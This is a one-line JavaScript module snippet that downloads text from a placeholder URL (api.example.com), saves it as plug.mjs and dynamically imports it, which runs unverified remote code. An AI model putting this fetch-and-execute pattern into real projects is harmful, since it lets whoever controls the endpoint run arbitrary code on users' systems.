import fs from 'fs'; const t=await (await fetch('https://api.example.com/x')).text(); fs.writeFileSync('plug.mjs',t); import('./plug.mjs?v=1')
